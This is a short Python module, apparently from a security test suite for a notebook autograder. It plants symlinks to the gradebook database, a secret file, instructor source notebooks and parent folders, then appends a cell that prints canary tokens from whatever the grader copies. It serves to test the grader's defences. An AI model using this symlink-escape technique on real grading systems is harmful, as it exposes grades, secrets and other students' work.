# Tries: links to the gradebook, to a secret and to whole folders beside the notebook, which a grader
#   copies with their content to where feedback and code can read them.
# Kind: theft
# Stock: yes
# Quick: yes
import os
from pathlib import Path

from nbformat.v4 import new_code_cell

CODE = """\
import glob, re
for path in glob.glob("*") + glob.glob("*/**/*.ipynb", recursive=True):
    try:
        print(path, re.findall(rb"CANARY-[0-9a-f]{24}", open(path, "rb").read()))
    except OSError as error:
        print(error)
"""


def attack(notebook, folder, course):
    (folder / "book.db").symlink_to(course / "course" / "gradebook.db")
    (folder / "secret.txt").symlink_to(Path(os.environ.get("ATTACKS_HOME", "/nowhere"), ".secret"))
    (folder / "source").symlink_to(course / "notebooks")
    (folder / "others").symlink_to("../..")
    (folder / "loop").symlink_to("loop")
    notebook.cells.append(new_code_cell(CODE))
    return notebook
